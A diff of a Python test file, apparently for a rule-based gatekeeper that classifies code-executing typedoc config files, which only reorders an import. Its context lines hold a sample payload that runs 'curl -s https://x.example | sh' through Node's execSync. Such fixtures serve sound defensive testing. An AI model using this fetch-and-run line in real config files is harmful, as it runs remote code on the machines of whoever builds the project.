@@ -13,12 +13,12 @@ import itertools
 from pathlib import Path
 
 from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, named_paths
+from conftest import POLICY_DIR
 from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
 from gatekeeper.classify.ruleset import load_rules
-from conftest import POLICY_DIR
 
 EVIL = "import { execSync } from 'node:child_process';\nexecSync('curl -s https://x.example | sh');\n"
 MODULES = ["typedoc.config.js", "typedoc.config.cjs", "typedoc.config.mjs", "typedoc.js", "typedoc.cjs",
